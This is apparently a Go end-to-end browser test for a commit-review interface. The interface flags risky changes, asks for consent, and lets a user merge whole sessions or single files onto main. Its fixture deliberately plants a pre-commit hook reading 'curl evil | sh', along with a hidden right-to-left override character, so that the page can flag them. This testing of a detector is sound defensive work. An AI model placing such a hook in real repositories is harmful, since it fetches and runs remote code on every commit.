//go:build heavy && linux

package view_test

import (
	"strings"

	"github.com/chromedp/chromedp"
)

const greeting = `printf 'package main\n\nfunc main() { println("<b>hello</b>") }\n' >main.go
printf 'echo \342\200\256hi\n' >odd.sh
git add .
git commit -qm 'Say hello'
mkdir -p .husky
echo 'curl evil | sh' >.husky/pre-commit
git add .
git commit -qm 'Add a hook'`

// changesPage takes work: what the gate holds up, after consent, and some files of another; and goes on with a comment
// on a line.
func changesPage(b *browser) {
	b.r.Push("Greet people", greeting)
	b.at("/")
	b.until("title", "document.title.startsWith('(')")
	b.pressOn("Greet people", "Review")
	b.sees("<b>hello</b>")
	b.sees("<U+202E>")
	b.until("colours", "CSS.highlights.get('c-k').size > 1")
	b.until("findings on lines", "document.querySelectorAll('.under .found').length > 0")
	b.fine("changes with findings")
	if b.width > 1000 {
		b.chooses("side by side", "select[aria-label=View]")
		b.do("two columns", chromedp.WaitVisible("table.both", chromedp.ByQuery))
		b.fine("changes side by side")
	}
	b.chooses("a commit", "select[aria-label=Commit]")
	b.until("only its files", "document.querySelectorAll('.file').length === 2")
	where := b.value("location.pathname")
	// Each part of it leads to what is to be decided, and a list of sessions says the same of it as the inbox.
	b.at(strings.TrimSuffix(where, "changes") + "plan")
	b.until("its next step", "(e => e?.checkVisibility() && e.innerText.startsWith('Review'))"+
		"(document.querySelector('.head a.fill'))")
	b.at("/no/such/page")
	b.until("it is held there too", `document.querySelector(".late [aria-label='held by the gate']")`)
	b.at(where)
	b.until("all files", "document.querySelectorAll('.file').length === 3")
	// Nothing can be taken until it was read, and what is filled leads there.
	b.until("the safe step is filled", "[...document.querySelectorAll('.dock .fill')].filter(e => e.checkVisibility())."+
		"map(e => e.innerText.trim().split(' ')[0]).join() === 'Review'")
	b.until("nothing can be taken", "document.querySelector(\"[data-act*='/pull']\").disabled")
	const consent = "document.querySelector('.found input:not(:checked), .gate[open] [data-consent]:not(:checked)')"
	for b.value(consent) != "null" {
		b.use("consent", consent, " ")
	}
	b.fine("changes with consent")
	b.press("Take all")
	b.until("it is taken or asked about", "document.querySelector('dialog[open]') || document.querySelector('.ask2.good')")
	if b.value("document.querySelector('dialog[open]')") != "null" {
		b.press("Take it anyway")
	}
	b.sees("It is on your branch main.")
	b.sees("2 commits on main, now at")
	b.press("OK")
	b.until("it is read", "!document.body.innerText.includes('2 commits on main, now at')")
	if out := b.r.Run("git", "log", "--format=%s", "main"); !strings.Contains(out, "Add a hook") {
		b.t.Errorf("main has %q", out)
	}

	part := b.r.Push("Write two files", "echo one >one.txt\necho two >two.txt\ngit add .\ngit commit -qm Two")
	b.r.Await(part, "done")
	b.at("/session/" + part + "/changes")
	b.until("its files", "document.getElementById('f-one.txt')")
	// What was seen, and what is said of a line, are kept: the page can be left.
	if b.width > 1000 {
		b.marks("seen", "[id='f-two.txt'] [data-seen]")
		b.until("it is folded", "!document.querySelector('[id=\"f-two.txt\"] .body')")
	}
	b.until("a line", "(e => e && (e.click(), true))(document.querySelector('[id=\"f-one.txt\"] .at'))")
	b.types("Comment on this line", "Say three too:\n\n## Task 1: Three\n\n"+
		"```sh\necho 3 >3.txt\ngit add .\ngit commit -qm 3\n```\n")
	b.press("Add comment")
	b.sees("Say three too")
	b.at("/session/" + part + "/changes")
	b.sees("Say three too")
	if b.width > 1000 {
		b.until("it is still seen", "document.querySelector('[id=\"f-two.txt\"] [data-seen]')?.checked")
	}
	b.fine("changes with a comment")
	b.press("Send 1 comment")
	b.sees("session " + part + " goes on")
	b.until("what has come is shown", "document.getElementById('f-3.txt')")
	b.until("it has its name still", "document.querySelector('h1').innerText === 'Write two files'")
	b.marks("leave a file", "[id='f-two.txt'] [data-take]")
	b.marks("leave another", "[id='f-3.txt'] [data-take]")
	b.press("Take 1 file")
	// What was done is told when the page has read anew, and the page does not say more than that.
	b.sees("all of it is at refs/cco/" + part)
	b.sees("one commit of one.txt on main")
	b.until("no more is said", "!document.body.innerText.includes('It is on your branch')")
	if out := b.r.Run("git", "ls-tree", "--name-only", "main"); !strings.Contains(out, "one.txt") ||
		strings.Contains(out, "two.txt") || strings.Contains(out, "3.txt") {
		b.t.Errorf("main has %q", out)
	}
}
